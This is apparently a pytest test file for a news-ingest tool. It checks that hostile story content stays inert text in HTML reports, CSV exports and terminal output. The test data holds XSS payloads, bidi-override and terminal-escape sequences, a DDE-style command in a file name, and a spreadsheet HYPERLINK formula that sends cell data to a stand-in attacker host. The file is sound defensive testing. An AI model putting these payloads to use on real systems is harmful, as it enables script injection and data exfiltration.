"""A hostile story, ingested for real: its scripts, bidi controls and formulas stay words wherever they are shown."""

import csv
import io
import os
import re

import pytest
from lxml import html

from tests.browser import visit

pytestmark = pytest.mark.slow

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
BIDI = "\u202egnp.exe\u2066"
TERMINAL = "\x1b]0;owned\x07\x1b[31m\x9b2J"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"open")'
CLAUSE = "Norway on Tuesday banned imports of timber from Belarus"
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069]")
FILE_NAME = "=cmd|' ⁄C calc'!A0 <img src=x onerror=alert(3)>\u202e.bin"


@pytest.fixture(scope="module")
def home(sanctionwire, tmp_path_factory):
    """The data folder of a run over two hostile stories without a date, and over bytes of no format under a hostile name."""
    incoming = tmp_path_factory.mktemp("hostile")
    story = {
        "headline": f"{FORMULA} {SCRIPT} {BIDI}{TERMINAL}",
        "byline": f"@{FORMULA}{BIDI}",
        "slugline": f"-2+3 {SCRIPT}",
        "provider": f"+{SCRIPT}{BIDI}",
        "language": "en",
        "text": f"{CLAUSE} {SCRIPT}{BIDI}. The government in Oslo said the ban would hold for a year.\n\n{FORMULA} {SCRIPT}",
    }
    with (incoming / "stories.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, story)
        writer.writeheader()
        writer.writerow(story)
    (incoming / "plain.txt").write_text(
        f"Norway bans timber {SCRIPT}\n\nOSLO (Meridian) - Norway banned timber {SCRIPT}{BIDI}. Oslo said so.\n\n{SCRIPT}\n",
        encoding="utf-8",
    )
    (incoming / FILE_NAME).write_bytes(b"\x00\x01\x02\x03" * 64)
    home = tmp_path_factory.mktemp("home")
    ran = sanctionwire("ingest", incoming, home=home)
    assert ran.code == 0, ran.err
    assert not HIDDEN.search(ran.out + ran.err)
    return home


def test_the_stories_are_there_as_they_came(sanctionwire, home):
    ran = sanctionwire("query", "SELECT headline, provider, body FROM stories ORDER BY headline", "--json", home=home)
    row, plain = ran.json
    assert FORMULA in row["headline"]
    assert SCRIPT in row["provider"]
    assert SCRIPT in plain["headline"]
    assert SCRIPT in plain["body"]
    assert BIDI in plain["body"]
    assert not HIDDEN.search(ran.out)


def test_it_is_words_in_the_report(sanctionwire, home):
    ran = sanctionwire("report", home=home)
    assert not HIDDEN.search(ran.out + ran.err)
    page = (home / "report.html").read_text(encoding="utf-8")
    assert not HIDDEN.search(page)
    tree = html.document_fromstring(page)
    assert tree.xpath("//script | //img | //iframe | //a[not(starts-with(@href, '#'))] | //@*[starts-with(name(), 'on')]") == []
    told = tree.text_content()
    assert "<script>alert(1)</script>" in told
    assert "[U+202E]" in told
    assert "onerror=alert(3)" in told
    words, *_ = [words for words in tree.xpath("//blockquote") if "Norway banned timber" in words.text_content()]
    assert SCRIPT in words.text_content()


def test_it_does_nothing_in_a_browser(browser, sanctionwire, home):
    sanctionwire("report", "--data-docs", home / "docs", home=home)
    for page in (home / "report.html", *(home / "docs").rglob("*.html")):
        with visit(browser, page) as seen:
            assert (seen.sent, seen.complaints, seen.dialogs) == ([], [], [])


def test_data_docs_and_junit_hold_no_word_of_it(sanctionwire, home, tmp_path):
    sanctionwire("report", "--data-docs", tmp_path / "docs", "--junit", tmp_path / "junit.xml", home=home)
    for file in (tmp_path / "junit.xml", *(tmp_path / "docs").rglob("*.html")):
        text = file.read_text(encoding="utf-8")
        assert not [words for words in ("alert(", "HYPERLINK", "Norway", "gnp.exe") if words in text]


def test_csv_has_no_cell_that_a_spreadsheet_runs(sanctionwire, home):
    ran = sanctionwire("query", "SELECT headline, slugline, byline, provider, -2 AS number FROM stories", "--csv", home=home)
    cells = [cell for row in csv.reader(io.StringIO(ran.out)) for cell in row]
    assert {cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))} == {"-2"}
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not HIDDEN.search(ran.out)


def test_raw_csv_is_what_is_stored(sanctionwire, home):
    sql = "SELECT headline, slugline FROM stories WHERE slugline IS NOT NULL"
    (stored,) = sanctionwire("query", sql, "--json", home=home).json
    _, row = csv.reader(io.StringIO(sanctionwire("query", sql, "--csv", "--raw", home=home).out))
    assert row == list(stored.values())


def test_a_terminal_is_told_the_numbers_of_what_would_act_on_it(sanctionwire, home):
    story_id = sanctionwire("query", "SELECT story_id FROM stories ORDER BY headline", "--json", home=home).json[0]["story_id"]
    for command in (["query", "FROM stories"], ["explain", story_id], ["query", "--name", "open_quarantine"]):
        ran = sanctionwire(*command, home=home)
        assert ran.code == 0, ran.err
        assert not HIDDEN.search(ran.out + ran.err)
    assert "[U+202E]" in sanctionwire("explain", story_id, home=home).out


def test_errors_are_told_without_acting(sanctionwire, home):
    ran = sanctionwire("query", f"SELECT '{TERMINAL}{BIDI}' FROM nowhere", home=home)
    assert ran.code == 1
    assert not HIDDEN.search(ran.err)


def test_the_flow_leaves_its_verdict_as_an_artifact_without_foreign_words(home):
    import httpx

    found = httpx.post(f"{os.environ['PREFECT_API_URL']}/artifacts/latest/filter", json={}, timeout=60).json()
    (artifact,) = [one for one in found if one["key"] == "quality" and str(home) in one["data"]]
    assert artifact["data"].startswith("# All critical checks passed")
    assert "stories_published_at_known" in artifact["data"]
    assert "alert(" not in artifact["data"]
